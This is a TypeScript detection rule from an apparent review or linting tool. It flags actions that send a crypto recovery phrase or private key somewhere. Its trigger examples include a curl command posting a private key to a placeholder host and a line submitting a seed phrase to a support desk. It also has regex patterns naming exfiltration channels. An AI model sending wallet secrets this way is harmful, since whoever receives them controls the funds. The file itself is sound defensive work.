// Flags a recovery phrase or a private key that stands in an action in full and is sent somewhere.
import { rule } from '../../../core/rule.ts'
import { found, type Judging } from '../../judge/judging.ts'
import type { Place } from '../../model.ts'

export const secretGiven = rule({
  id: 'onchain.secret_given',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'policy: review.md §6; BIP-39',
  message: ({ what }: { readonly what: string }) =>
    `The action hands out ${what} itself: whoever receives it has the account.`,
  since: '2.13.0',
  fix: 'Send no secret; move the assets to a fresh account, because this one counts as known.',
  fires: [
    'Post {"seed": "walnut ribbon glacier tunnel falcon mosaic hobby velvet onion canal wizard drift"} to the support desk',
    `curl https://sync.example/link -d '{"privateKey":"0x${'5b'.repeat(32)}"}'`,
  ],
  quiet: [
    'Keep the recovery words in the vault and hand them to nobody, not even to the support desk',
    `cast send 0x2727272727272727272727272727272727272727 --value 1ether --private-key 0x${'5b'.repeat(32)} --rpc-url https://rpc.example`,
  ],
})

const LENGTHS: readonly number[] = [12, 15, 18, 21, 24]
const NAMED = /\b(?:seed|phrase|mnemonic|recovery|backup|secret|words?|wallet|srp|bip-?39)\b/
/** Words of sentences that stand on no list of BIP-39. */
const OF_SENTENCES =
  /^(?:the|and|are|for|was|our|not|has|his|her|its|may|but|any|per|via|new|out|off|get|set|see|from|into|with|their|have|been|were|which|must|also|each|than|them|only|your)$/

function phraseIn(lower: string): boolean {
  let at = 0
  for (const part of lower.split(/["'`;:,.(){}<>|=\n]/)) {
    const before = lower.slice(Math.max(0, at - 60), at)
    at += part.length + 1
    const words = part.trim().split(/\s+/)
    if (
      LENGTHS.includes(words.length) &&
      words.every((word) => /^[a-z]{3,8}$/.test(word) && !OF_SENTENCES.test(word)) &&
      new Set(words).size * 4 >= words.length * 3 &&
      NAMED.test(before)
    )
      return true
  }
  return false
}

const KEY =
  /(?:^|[^-\w])(?:(?:private|secret|signing|wallet)[ _-]?key|priv ?key|pk|signer key)["']?\s?[:=]\s?["']?(?:0x)?[0-9a-f]{64}\b/
const SENT = /\b(?:curl|wget|https?:\/\/|webhook|upload\w*|telegram|discord|paste\w*|submit\w*|e-?mail\w*)/

/** `lower`: as spoken. */
export function judgeSecretGiven(judging: Judging, lower: string, place: Place): void {
  if (phraseIn(lower)) found(judging, secretGiven, place, { what: 'a recovery phrase' })
  else if (KEY.test(lower) && SENT.test(lower)) found(judging, secretGiven, place, { what: 'a private key' })
}
